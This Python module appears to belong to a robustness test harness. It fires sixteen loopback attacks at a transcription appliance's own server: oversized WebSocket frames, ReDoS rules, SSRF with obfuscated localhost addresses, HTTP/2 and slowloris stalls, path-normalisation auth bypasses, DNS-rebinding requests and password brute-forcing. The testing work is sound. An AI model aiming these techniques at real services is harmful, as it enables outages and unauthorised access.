"""What strangers without a password try, each bounded, over and over until stopped.

An attack is a generator `attack(server, stopping)` that yields what came of each try, in a word or
two; the words are counted. All addresses are loopback ones, other than those of the bystanders.
"""

import base64
import json
import os
import random
import socket
import ssl
import struct
import time
from http.client import HTTPConnection, HTTPException

from clients import read_head
from server import HOST, client_tls

GONE = (OSError, HTTPException)
BOUNDARY = "x"


def connect(port, source, timeout=20):
    return socket.create_connection((HOST, port), timeout, source_address=(source, 0))


def pause(stopping, seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end and not stopping.is_set():
        time.sleep(0.05)


def open_realtime(port, source):
    """A plain WebSocket to the realtime service."""
    stream = connect(port, source)
    stream.sendall(
        b"GET /v2/en HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    )
    head = read_head(stream)
    if not head.startswith(b"HTTP/1.1 101"):
        stream.close()
        raise ConnectionRefusedError(head[9:12].decode())
    return stream


def close_code(stream):
    """The close code of the peer, or how it ended."""
    received = b""
    try:
        while more := stream.recv(65536):
            received += more
    except socket.timeout:
        return "open"
    except OSError:
        pass
    place = received.rfind(b"\x88")
    if 0 <= place and len(received) >= place + 4:
        return str(struct.unpack(">H", received[place + 2 : place + 4])[0])
    return "closed"


def endless_frames(server, stopping):
    """A frame whose header claims 1 TiB, and up to 32 MiB of it."""
    while not stopping.is_set():
        try:
            stream = open_realtime(server.http, "127.0.1.1")
            stream.sendall(b"\x82\xff" + struct.pack(">Q", 1 << 40) + bytes(4))
            try:
                for _ in range(32):
                    stream.sendall(bytes(1 << 20))
            except OSError:
                pass
            yield close_code(stream)
            stream.close()
        except GONE as err:
            yield type(err).__name__
        pause(stopping, 1)


def unfinished_messages(server, stopping):
    """Eighty WebSockets, each with all but the end of a message of 4 MiB."""
    while not stopping.is_set():
        streams = []
        for _ in range(80):
            try:
                stream = open_realtime(server.http, "127.0.1.2")
                stream.settimeout(0.5)
                streams.append(stream)
                stream.sendall(b"\x82\xff" + struct.pack(">Q", 4 << 20) + bytes(4))
                stream.sendall(bytes((4 << 20) - 1))
                yield "taken"
            except GONE as err:
                yield type(err).__name__
        pause(stopping, 5)
        for stream in streams:
            stream.close()


def pattern_bombs(server, stopping):
    """Rules whose patterns unfold, in realtime and in jobs."""
    rules = [{"from": r"/\w{60}/", "to": ""}] * 300
    config = {"language": "en", "transcript_filtering_config": {"replacements": rules}}
    start = json.dumps({
        "message": "StartRecognition", "transcription_config": config,
        "audio_format": {"type": "raw", "encoding": "pcm_s16le", "sample_rate": 16000},
    }).encode()
    while not stopping.is_set():
        try:
            stream = open_realtime(server.http, "127.0.1.3")
            stream.sendall(b"\x81\xff" + struct.pack(">Q", len(start)) + bytes(4) + start)
            yield "realtime " + close_code(stream)
            stream.close()
            job = {"type": "transcription", "transcription_config": config}
            yield f"job {post_job(server, job, '127.0.1.3')[0]}"
        except GONE as err:
            yield type(err).__name__
        pause(stopping, 2)


def post_job(server, config, source, audio=None):
    body = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="config"\r\n\r\n'.encode()
    body += json.dumps(config).encode() + b"\r\n"
    if audio is not None:
        disposition = 'form-data; name="data_file"; filename="a.wav"'
        body += f"--{BOUNDARY}\r\nContent-Disposition: {disposition}\r\n\r\n".encode()
        body += audio + b"\r\n"
    body += f"--{BOUNDARY}--\r\n".encode()
    connection = HTTPConnection(HOST, server.http, timeout=30, source_address=(source, 0))
    try:
        media = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}
        connection.request("POST", "/v2/jobs", body, media)
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def inner_addresses(server, stopping):
    """Jobs that ask for what only this machine may read, and what they hand out."""
    me = server.http
    spellings = [
        f"http://127.0.0.1:{me}/v2/management/host/about", f"http://localhost:{me}/healthz",
        f"http://2130706433:{me}/healthz", f"http://0x7f.1:{me}/healthz",
        f"http://[::ffff:127.0.0.1]:{me}/healthz", f"http://0.0.0.0:{me}/healthz",
        f"http://127.1:{me}/healthz", f"http://[::1]:{me}/healthz",
    ]
    while not stopping.is_set():
        url = random.choice(spellings)
        config = {"type": "transcription", "transcription_config": {"language": "en"},
                  "fetch_data": {"url": url, "auth_headers": ["Metadata-Flavor: Google"]}}
        try:
            status, answer = post_job(server, config, "127.0.1.4")
            yield f"post {status}"
            if status == 201:
                identity = json.loads(answer)["id"]
                pause(stopping, 3)
                connection = HTTPConnection(HOST, server.http, timeout=30)
                connection.request("GET", f"/v2/jobs/{identity}/data")
                response = connection.getresponse()
                leaked = response.status == 200 and response.read()
                yield "LEAKED" if leaked else f"data {response.status}"
                connection.close()
        except GONE as err:
            yield type(err).__name__
        pause(stopping, 1)


def header_block(path):
    """A header block in literals without indexing (RFC 7541, section 6.2.2)."""
    def literal(name, value):
        return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value

    return (literal(b":method", b"GET") + literal(b":scheme", b"https")
            + literal(b":authority", b"localhost") + literal(b":path", path.encode()))


def http2_frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def stalled_streams(server, stopping):
    """HTTP/2 connections of 250 streams each whose window is closed from the beginning."""
    held, number = [], 0
    while not stopping.is_set():
        number += 1
        try:
            context = client_tls()
            context.set_alpn_protocols(["h2"])
            plain = connect(server.https, f"127.0.2.{1 + number % 3}", 10)
            stream = context.wrap_socket(plain, server_hostname="localhost")
            # SETTINGS with INITIAL_WINDOW_SIZE 0.
            asked = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + http2_frame(4, 0, 0, b"\0\x04\0\0\0\0")
            block = header_block("/v2/openapi.json")
            for identity in range(1, 501, 2):
                asked += http2_frame(1, 5, identity, block)
            stream.sendall(asked)
            held.append(stream)
            yield "held"
        except GONE as err:
            yield type(err).__name__
        if len(held) > 20:
            held.pop(0).close()
        pause(stopping, 0.7)
    for stream in held:
        stream.close()


def stalled_readers(server, stopping):
    """HTTP/1 clients that ask for much, with a small buffer, and read nothing."""
    held = []
    while not stopping.is_set():
        try:
            stream = socket.socket()
            stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            stream.settimeout(10)
            stream.bind(("127.0.2.9", 0))
            stream.connect((HOST, server.http))
            stream.sendall(b"GET /echo/slow?bytes=50000000&seconds=1 HTTP/1.1\r\nHost: x\r\n\r\n")
            held.append(stream)
            yield "held"
        except GONE as err:
            yield type(err).__name__
        if len(held) > 60:
            held.pop(0).close()
        pause(stopping, 0.5)
    for stream in held:
        stream.close()


def silent_uploads(server, stopping):
    """Bodies that never come, with and without an offer to upgrade."""
    held, number = [], 0
    while not stopping.is_set():
        number += 1
        offer = "Connection: upgrade\r\n" if number % 2 else ""
        try:
            stream = connect(server.http, "127.0.2.10", 5)
            stream.sendall((
                f"POST /v2/jobs HTTP/1.1\r\nHost: x\r\n{offer}Content-Length: 999999\r\n"
                "Content-Type: multipart/form-data; boundary=x\r\n\r\n--x\r\n"
            ).encode())
            held.append(stream)
            yield "held"
        except GONE as err:
            yield type(err).__name__
        if len(held) > 300:
            held.pop(0).close()
        pause(stopping, 0.1)
    for stream in held:
        stream.close()


def odd_paths(server, stopping):
    """Wrong passwords over other spellings of an administrator's path."""
    paths = ["/v2/%73ecurity/audit", "/v2//security/audit", "/v2/./security/audit",
             "/v2/jobs/../security/audit", "/v2/security%2faudit", "/V2/security/audit"]
    token = base64.b64encode(b"admin:guess").decode()
    while not stopping.is_set():
        path = random.choice(paths)
        try:
            stream = connect(server.http, "127.0.3.1")
            stream.sendall((
                f"GET {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Basic {token}\r\n"
                "Connection: close\r\n\r\n"
            ).encode())
            yield read_head(stream)[9:12].decode(errors="replace")
            stream.close()
        except GONE as err:
            yield type(err).__name__
        pause(stopping, 1)


def foreign_pages(server, stopping):
    """Requests that a page of another site makes, as fast as eight connections go."""
    asked = ("POST /v2/security/%s HTTP/1.1\r\nHost: x\r\nOrigin: http://evil.example\r\n"
             "Content-Length: 0\r\n\r\n" % ("a" * 86)).encode()
    streams = []
    while not stopping.is_set():
        try:
            streams = streams or [connect(server.http, "127.0.3.2") for _ in range(8)]
            for stream in streams:
                stream.sendall(asked)
                yield stream.recv(65536)[9:12].decode(errors="replace") or "closed"
        except GONE as err:
            streams = []
            yield type(err).__name__
        pause(stopping, 0.02)


def rebound_names(server, stopping):
    """A page whose name was turned to this appliance's address."""
    while not stopping.is_set():
        try:
            stream = connect(server.http, "127.0.3.3")
            token = base64.b64encode(b"admin:admin").decode()
            stream.sendall((
                "POST /v2/security/insecureports HTTP/1.1\r\nHost: evil.example\r\n"
                "Origin: http://evil.example\r\nSec-Fetch-Site: same-origin\r\n"
                f"Authorization: Basic {token}\r\nContent-Length: 30\r\nConnection: close\r\n\r\n"
                '{"enable_insecure_ports":true}'
            ).encode())
            yield read_head(stream)[9:12].decode(errors="replace")
            stream.close()
        except GONE as err:
            yield type(err).__name__
        pause(stopping, 0.5)


def large_configurations(server, stopping):
    """Jobs without audio whose configuration is as large as it may be, and larger."""
    for number in range(10_000):
        if stopping.is_set():
            return
        size = (4 << 20) - 300 if number % 5 == 0 else 60_000
        config = {"type": "transcription", "transcription_config": {"language": "en"},
                  "fetch_data": {"url": "http://127.0.0.1:9/"},
                  "tracking": {"details": {"a": "z" * size}}}
        try:
            yield str(post_job(server, config, "127.0.4.1")[0])
        except GONE as err:
            yield type(err).__name__
        pause(stopping, 0.5)


def impatient_guesses(server, stopping):
    """Wrong passwords from a hundred addresses that do not wait for their answers."""
    turn = 0
    while not stopping.is_set():
        turn += 1
        for number in range(100):
            token = base64.b64encode(f"admin:guess-{turn}-{number}".encode()).decode()
            try:
                stream = connect(server.http, f"127.0.5.{1 + number}", 5)
                stream.sendall((
                    "GET /v2/security/audit HTTP/1.1\r\nHost: x\r\n"
                    f"Authorization: Basic {token}\r\nConnection: close\r\n\r\n"
                ).encode())
                stream.close()
                yield "sent"
            except GONE as err:
                yield type(err).__name__
        pause(stopping, 1)


def no_http(server, stopping):
    """What is no HTTP: bad heads, random bytes, PROXY preambles, unfinished handshakes."""
    pieces = [b"GET / HTTP/1.1\r\nA b\r\n\r\n", os.urandom(200),
              b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n", b"\x16\x03\x01\x02\x00\x01"]
    while not stopping.is_set():
        for port in (server.http, server.https):
            try:
                stream = connect(port, "127.0.6.1", 5)
                stream.sendall(random.choice(pieces))
                stream.settimeout(0.05)
                try:
                    stream.recv(200)
                    yield "answered"
                except socket.timeout:
                    yield "silent"
                stream.close()
            except GONE as err:
                yield type(err).__name__
        pause(stopping, 0.01)


def dripping_fetches(server, stopping):
    """Jobs that fetch from a server of ours which answers a byte every five seconds."""
    listener = socket.create_server((HOST, 0))
    listener.settimeout(0.2)
    taken, posted = [], 0
    url = f"http://{HOST}:{listener.getsockname()[1]}/"
    config = {"type": "transcription", "transcription_config": {"language": "en"},
              "fetch_data": {"url": url}}
    dripped = time.monotonic()
    while not stopping.is_set():
        if posted < 64:
            posted += 1
            try:
                yield f"post {post_job(server, config, '127.0.7.1')[0]}"
            except GONE as err:
                yield type(err).__name__
        try:
            stream, _ = listener.accept()
            stream.settimeout(5)
            stream.recv(4096)
            stream.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\n")
            taken.append(stream)
            yield "fetched"
        except OSError:
            pass
        if time.monotonic() - dripped > 5:
            dripped = time.monotonic()
            for stream in list(taken):
                try:
                    stream.sendall(b"a")
                except OSError:
                    taken.remove(stream)
                    yield "given up"
    for stream in taken:
        stream.close()
    listener.close()


def all_sessions(server, stopping):
    """As many realtime sessions as one address gets."""
    start = json.dumps({
        "message": "StartRecognition", "transcription_config": {"language": "en"},
        "audio_format": {"type": "raw", "encoding": "pcm_s16le", "sample_rate": 16000},
    }).encode()
    held = []
    while not stopping.is_set():
        try:
            stream = open_realtime(server.http, "127.0.8.1")
            stream.sendall(b"\x81\xfe" + struct.pack(">H", len(start)) + bytes(4) + start)
            stream.settimeout(2)
            answer = stream.recv(4096)
            if b"RecognitionStarted" in answer:
                held.append(stream)
                yield "session"
            else:
                yield "refused"
                stream.close()
        except GONE as err:
            yield type(err).__name__
        if len(held) > 200:
            held.pop(0).close()
        pause(stopping, 0.3)
    for stream in held:
        stream.close()


def log_followers(server, stopping):
    """Log downloads that are begun with the right password and never read."""
    held = []
    token = base64.b64encode(b"admin:admin").decode()
    while not stopping.is_set():
        try:
            stream = client_tls().wrap_socket(connect(server.https, "127.0.9.1", 10))
            stream.sendall((
                "GET /v2/management/logs?limit=24h HTTP/1.1\r\nHost: localhost\r\n"
                f"Authorization: Basic {token}\r\n\r\n"
            ).encode())
            held.append(stream)
            yield "held"
        except (OSError, ssl.SSLError) as err:
            yield type(err).__name__
        if len(held) > 20:
            held.pop(0).close()
        pause(stopping, 1)
    for stream in held:
        stream.close()


ALL = [
    endless_frames, unfinished_messages, pattern_bombs, inner_addresses, stalled_streams,
    stalled_readers, silent_uploads, odd_paths, foreign_pages, rebound_names,
    large_configurations, impatient_guesses, no_http, dripping_fetches, all_sessions,
    log_followers,
]
